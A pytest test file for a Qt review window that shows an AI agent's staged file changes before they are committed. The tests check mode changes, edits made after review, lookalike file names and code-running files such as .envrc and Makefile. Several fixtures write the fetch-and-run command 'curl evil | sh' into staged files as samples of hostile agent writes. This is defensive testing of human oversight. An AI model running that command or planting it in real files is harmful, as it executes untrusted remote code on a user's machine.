"""The review window on real staged trees: it shows the mode every change lands with and
flags names that pass for others, and it commits exactly what it displayed."""

from __future__ import annotations

import asyncio
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtCore import Qt

from app.events import EventBus
from app.paths import Dirs
from app.review import Review
from app.staging import SessionStaging
from ui.qt.review import ReviewWindow

SESSION = "a1b2c3d4"


@pytest.fixture
def staged(tmp_path: Path) -> tuple[Review, Path, Path]:
    """A granted folder with the user's files, its staging area (upper layer) and a Review."""
    host = tmp_path / "project"
    host.mkdir()
    (host / "run.sh").write_text("#!/bin/sh\n")
    (host / "run.sh").chmod(0o644)
    (host / "tool.sh").write_text("#!/bin/sh\n")
    (host / "tool.sh").chmod(0o644)
    (host / "report.txt").write_text("the user's report\n")
    review = Review(Dirs(tmp_path / "config", tmp_path / "state", tmp_path / "run"), EventBus())
    staging = SessionStaging(review.dirs.sessions / SESSION / "staging", SESSION)
    _, upper, _ = staging.add_tree(host, "g1", 1024**2, None)
    return review, host, upper


def open_window(review: Review, run: Callable[..., object]) -> ReviewWindow:
    tasks: list[asyncio.Task[object]] = []
    window = ReviewWindow(
        SESSION, review, lambda c: tasks.append(asyncio.get_event_loop().create_task(c))
    )
    run(window.load())
    return window


def row(window: ReviewWindow, path: Path) -> dict[str, str]:
    item = window.item_for(path)
    assert item is not None, path
    return {
        "file": item.text(0),
        "status": item.text(1),
        "mode": item.text(2),
        "tip": item.toolTip(0),
        "icon": str(not item.icon(0).isNull()),
        "checked": str(item.checkState(0) == Qt.CheckState.Checked),
    }


def test_every_mode_that_lands_is_shown_and_lands_exactly(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "run.sh").write_text("#!/bin/sh\n")  # a mode change only
    (upper / "run.sh").chmod(0o755)
    (upper / "tool.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # content and an x bit
    (upper / "tool.sh").chmod(0o755)
    (upper / "open.txt").write_text("anyone may write me\n")
    (upper / "open.txt").chmod(0o777)
    window = open_window(review, run)
    assert {p: row(window, host / p)["mode"] for p in ("run.sh", "tool.sh", "open.txt")} == {
        "run.sh": "0644 → 0755",
        "tool.sh": "0644 → 0755",
        "open.txt": "0777",
    }
    window.files.setCurrentItem(window.item_for(host / "tool.sh"))
    assert f"\nmode 0644 -> 0755 {host / 'tool.sh'}\n" in window.viewer.toPlainText()
    window.files.setCurrentItem(window.item_for(host / "open.txt"))
    assert f"\nmode 0777 {host / 'open.txt'}\n" in window.viewer.toPlainText()
    for name in ("run.sh", "tool.sh", "open.txt"):  # new x bits: ticked one by one
        window.item_for(host / name).setCheckState(0, Qt.CheckState.Checked)
    old_umask = os.umask(0o022)
    try:
        result = run(window.commit_selected())
    finally:
        os.umask(old_umask)
    assert result is not None and result.refused == ()  # type: ignore[attr-defined]
    assert {
        p: stat.S_IMODE((host / p).stat().st_mode) for p in ("run.sh", "tool.sh", "open.txt")
    } == {"run.sh": 0o755, "tool.sh": 0o755, "open.txt": 0o777}


def test_the_window_commits_what_it_displayed_not_what_was_staged_since(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "report.txt").write_text("a harmless edit\n")
    window = open_window(review, run)
    shown = window.status.text()
    assert shown.startswith("1 change, id ") and window.changeset is not None
    assert window.changeset.digest in shown
    (upper / "report.txt").write_text("curl evil | sh\n")  # the agent writes again
    window._approve_all()
    result = run(window.commit_selected())
    assert result is not None
    [(path, why)] = result.refused  # type: ignore[attr-defined]
    assert path == str(host / "report.txt") and "changed since you reviewed it" in why
    assert (host / "report.txt").read_text() == "the user's report\n"


def test_lookalike_names_carry_a_visible_warning_and_are_not_approved_with_the_rest(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / "report.txt ").write_text("the agent's report\n")
    (upper / "notes\u200f.md").write_text("hidden mark\n")
    (upper / "plain.md").write_text("nothing odd\n")
    window = open_window(review, run)
    spaced, hidden, plain = (
        row(window, host / n) for n in ("report.txt ", "notes\u200f.md", "plain.md")
    )
    assert spaced["icon"] == hidden["icon"] == "True" and plain["icon"] == "False"
    assert "looks like report.txt in the same folder" in spaced["tip"]
    assert "invisible" in hidden["tip"] and "\\u200f" in hidden["file"]
    assert "2 with a name to check" in window.status.text()
    window.files.setCurrentItem(window.item_for(host / "report.txt "))
    assert window.viewer.toPlainText().startswith("warning: the name ends with a space")
    window._approve_all()
    assert [p.name for p in window.approved()] == ["plain.md"]


def test_a_reload_keeps_a_tick_only_on_what_did_not_change(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, _, upper = staged
    (upper / "report.txt").write_text("a harmless edit\n")
    (upper / "plain.md").write_text("nothing odd\n")
    window = open_window(review, run)
    window._approve_all()
    (upper / "report.txt").write_text("curl evil | sh\n")  # the agent writes again
    run(window.load())  # the window is opened again
    assert [p.name for p in window.approved()] == ["plain.md"]


def test_changes_that_run_code_are_marked_and_left_for_the_person_to_tick(
    staged: tuple[Review, Path, Path], run: Callable[..., object]
) -> None:
    review, host, upper = staged
    (upper / ".envrc").write_text("curl evil | sh\n")
    (upper / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    (upper / "plain.md").write_text("nothing odd\n")
    window = open_window(review, run)
    envrc = row(window, host / ".envrc")
    assert envrc["icon"] == "True" and "Can run code on this machine: direnv" in envrc["tip"]
    assert "2 can run code" in window.status.text()
    window.files.setCurrentItem(window.item_for(host / "Makefile"))
    assert window.viewer.toPlainText().startswith("runs code: make runs its recipes")
    window._approve_all()
    assert [p.name for p in window.approved()] == ["plain.md"]
    assert "2 flagged changes left unticked" in window.status.text()
    window.item_for(host / ".envrc").setCheckState(0, Qt.CheckState.Checked)  # by hand
    result = run(window.commit_selected())
    assert result is not None and result.refused == ()  # type: ignore[attr-defined]
    assert (host / ".envrc").exists() and not (host / "Makefile").exists()
